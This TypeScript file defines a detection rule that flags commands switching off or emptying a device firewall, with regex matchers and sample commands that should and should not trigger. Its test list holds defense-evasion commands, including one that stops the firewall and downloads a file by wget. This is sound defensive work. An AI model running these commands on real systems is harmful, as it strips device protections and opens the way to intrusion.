import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";
import type { Command } from "../../shell/reading.js";

const SERVICES =
  /\b(?:ufw|firewalld|nftables|ip6?tables|netfilter-persistent|shorewall|firewall)(?:\.service)?\b/;

/** The firewall on the device was switched off or emptied, often before data leaves. */
export const firewallDisabled = commandRule({
  id: "firewall-disabled",
  alertType: "IoT_DisableFirewall",
  name: "Disable firewall",
  severity: "High",
  about: "The firewall on the device was switched off or emptied, often before data leaves.",
  tactics: ["Defense Evasion"],
  techniques: ["T1562.004"],
  falsePositives: [
    "A maintenance script that loads new rules may empty the old ones first; it loads others within the same second.",
    "Container networks flush chains of their own, which this rule leaves alone.",
  ],
  witness: ["iptables", "nft", "ufw", "firewall", "ip6tables", "shorewall", "ipset", "netfilter"],
  sees: (reading) =>
    find(
      reading,
      /^ip6?tables(?:-legacy|-nft)?$/,
      (command) => emptiesChains(command) || /\s-P\s+(?:INPUT|OUTPUT)\s+ACCEPT\b/.test(command.text),
    ) ??
    find(reading, /^nft$/, ({ text }) =>
      /\bflush\s+ruleset\b|\bdelete\s+table\s+inet\s+(?:filter|firewalld)\b/.test(text),
    ) ??
    find(reading, /^ufw$/, ({ text }) => /\s(?:disable|reset)\b/.test(text)) ??
    find(
      reading,
      /^systemctl$/,
      ({ text }) => /\s(?:stop|disable|mask|kill)\s/.test(text) && SERVICES.test(text),
    ) ??
    find(reading, /^service$/, ({ text }) => /\sstop\b/.test(text) && SERVICES.test(text)) ??
    find(reading, /^(?:firewall|iptables|ufw|nftables|shorewall)$/, ({ text }) =>
      /^\/etc\/(?:init|rc)\.d\/\S+\s+(?:stop|disable)\b/.test(text),
    ) ??
    find(
      reading,
      /^(?:chkconfig|update-rc\.d|rc-update)$/,
      ({ text }) => SERVICES.test(text) && /\s(?:off|remove|disable|del)\b/.test(text),
    ) ??
    find(
      reading,
      /^(?:rmmod|modprobe)$/,
      ({ text }) => /\b(?:iptable_filter|nf_tables|ip_tables)\b/.test(text) && /rmmod|\s-r\b/.test(text),
    ),
  did: "switched the firewall off",
  because: "it empties or stops the firewall",
  fires: [
    "iptables -F",
    "iptables -P INPUT ACCEPT",
    "ufw disable",
    "systemctl stop firewalld",
    "nft flush ruleset",
    "sh -c /etc/init.d/firewall stop; wget http://203.0.113.9/x",
    "sudo -n iptables --flush INPUT",
  ],
  silent: [
    "iptables -L -n",
    "ufw status verbose",
    "systemctl restart nftables",
    "iptables -F DOCKER-ISOLATION-STAGE-1",
    "iptables -t nat -F",
    "iptables -P FORWARD ACCEPT",
    "nft -f /etc/nftables.conf",
    "apt-get install -y ufw",
    "systemctl status firewalld",
  ],
});

const emptiesChains = (command: Command): boolean => {
  const flush = command.argv.findIndex((word) => word === "-F" || word === "--flush");
  if (flush < 0 || /\s-t\s+(?:nat|mangle|raw)\b/.test(command.text)) return false;
  const chain = command.argv[flush + 1];
  return chain === undefined || chain.startsWith("-") || /^(?:INPUT|OUTPUT|FORWARD)$/.test(chain);
};
